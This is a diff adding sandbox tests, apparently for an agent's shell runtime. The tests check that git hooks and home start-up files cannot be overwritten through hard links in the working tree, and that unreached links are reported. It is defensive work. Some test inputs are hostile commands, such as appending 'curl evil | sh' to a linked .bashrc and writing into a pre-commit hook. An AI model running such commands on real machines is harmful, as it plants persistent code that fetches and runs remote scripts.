@@ -12,12 +12,14 @@
  *   alone, and the next `npm` outside ran a forged entry. Read-only now, made
  *   empty where not there; so is the directory `NODE_COMPILE_CACHE` names.
  */
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
+import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import path from "node:path";
 import { describe, expect, it } from "vitest";
 import { GIT_HOOK_PLACES } from "../../runtime/bash/programs/knowledge/git.js";
 import { GIT_SYSTEM_CONFIGURATIONS, systemConfigurations } from "../../runtime/sandbox/git-repositories.js";
 import { pathDirectories } from "../../runtime/paths/path-directories.js";
+import { loadPolicy } from "../../runtime/index.js";
+import { sandboxProfile } from "../../runtime/sandbox/build-profile.js";
 import { compiledFor, kernelLayout, runIn } from "../support/kernel-run.js";
 
 const BASE = { "*": "allow", bash: { "*": "allow" }, path: { "*": "allow", "~/.ssh/*": "deny" }, external_directory: { "*": "allow" } };
@@ -144,4 +146,53 @@ describe("git's system configuration", () => {
   ])("%s", (_, env, want) => {
     expect(systemConfigurations(env)).toEqual(want);
   });
+});
+
+describe("a protected file with another name (a hard link)", () => {
+  it("a hook hard-linked to a script in the working tree cannot be written through the script", async () => {
+    const at = kernelLayout("kernel-hard-link");
+    mkdirSync(path.join(at.proj, ".git", "hooks"), { recursive: true });
+    mkdirSync(path.join(at.proj, "scripts"));
+    writeFileSync(path.join(at.proj, "scripts", "pre-commit"), "# the project's hook\n");
+    linkSync(path.join(at.proj, "scripts", "pre-commit"), path.join(at.proj, ".git", "hooks", "pre-commit"));
+    const mod = await compiledFor(at, BASE);
+    const ran = await runIn(at, mod, "echo evil >> scripts/pre-commit; printf 'evil' > scripts/pre-commit; echo ok > scripts/other; echo done");
+    expect(ran.out).toContain("done");
+    expect(readFileSync(path.join(at.proj, ".git", "hooks", "pre-commit"), "utf8")).toBe("# the project's hook\n");
+    expect(readFileSync(path.join(at.proj, "scripts", "other"), "utf8")).toBe("ok\n");
+  }, 30_000);
+
+  it("a start-up file in the read-only home, hard-linked into the working tree (a dotfiles repository), cannot be written from there", async () => {
+    const at = kernelLayout("kernel-hard-link-home");
+    mkdirSync(path.join(at.proj, "dotfiles"));
+    linkSync(path.join(at.home, ".bashrc"), path.join(at.proj, "dotfiles", "bashrc"));
+    writeFileSync(path.join(at.proj, "dotfiles", "vimrc"), "set nu\n");
+    const mod = await compiledFor(at, BASE);
+    await runIn(at, mod, "echo 'curl evil | sh' >> dotfiles/bashrc; echo 'set rnu' >> dotfiles/vimrc");
+    expect(readFileSync(path.join(at.home, ".bashrc"), "utf8")).toBe("bashrc\n");
+    expect(readFileSync(path.join(at.proj, "dotfiles", "vimrc"), "utf8")).toBe("set nu\nset rnu\n");
+  }, 30_000);
+
+  it("makes read-only the other names it finds (none when there are none), and says so when its walk stops before every name", async () => {
+    const at = kernelLayout("kernel-hard-link-profile");
+    mkdirSync(path.join(at.proj, ".git", "hooks"), { recursive: true });
+    for (let i = 0; i < 30; i++) writeFileSync(path.join(at.proj, `f${i}.txt`), "");
+    writeFileSync(path.join(at.proj, ".git", "hooks", "pre-push"), "");
+    const policy = await loadPolicy(await compiledFor(at, BASE), { home: at.home });
+    const profileWith = (scanLimit: number) => sandboxProfile(policy, { cwd: at.proj, home: at.home, tmpDir: at.tmp, scanLimit });
+    const named = (limit: number) =>
+      profileWith(limit)
+        .mounts.filter((m) => m.why.includes("hard link"))
+        .map((m) => m.path);
+    expect(named(10_000)).toEqual([]);
+    // Named last in the walk's order: the tree's files come first, breadth first.
+    mkdirSync(path.join(at.proj, "z", "deep"), { recursive: true });
+    linkSync(path.join(at.proj, ".git", "hooks", "pre-push"), path.join(at.proj, "z", "deep", "pre-push"));
+    expect(named(10_000)).toEqual([path.join(at.proj, "z", "deep", "pre-push")]);
+    const bounded = profileWith(5);
+    expect(bounded.mounts.filter((m) => m.why.includes("hard link"))).toEqual([]);
+    expect(bounded.notes.join("\n")).toContain(
+      `${path.join(at.proj, ".git", "hooks", "pre-push")} has hard links the walk of the writable places did not reach`,
+    );
+  }, 30_000);
 });
